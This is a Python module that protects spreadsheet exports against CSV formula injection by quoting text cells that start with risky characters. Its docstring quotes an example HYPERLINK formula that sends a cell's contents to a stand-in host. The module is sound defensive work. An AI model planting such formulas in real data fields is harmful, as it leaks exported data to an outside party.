"""Exports that are safe to open in a spreadsheet. A resident can type ``=HYPERLINK("http://x/?"&A1,
"Click")`` into a survey answer or a name; the organiser who opens the export in Excel or WPS would
run it ("CSV injection"). Every CSV and XLSX export writes its rows through this module:

- CSV: a text cell that starts with ``= + - @``, a tab or a carriage return gets a leading ``'``,
  so the program shows it as text. Numbers are left alone, and so is text that is just a number
  (``-12.5``), so figures stay figures.
- XLSX: cells are typed, so text starting with ``+ - @``, a tab or a CR is inert text and is left
  as typed; only text starting with ``=``, which openpyxl would store as a formula, gets the ``'``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(RISKY_STARTS) and not _is_number(value):
        return "'" + value
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in row]


def xlsx_row(row: Iterable[Any]) -> list[Any]:
    """The row for ``sheet.append``. XLSX cells are typed: text stays text whatever it starts with,
    except that openpyxl stores text starting with ``=`` as a formula; that text gets the ``'``."""
    return [
        "'" + value if isinstance(value, str) and value.startswith("=") else value for value in row
    ]
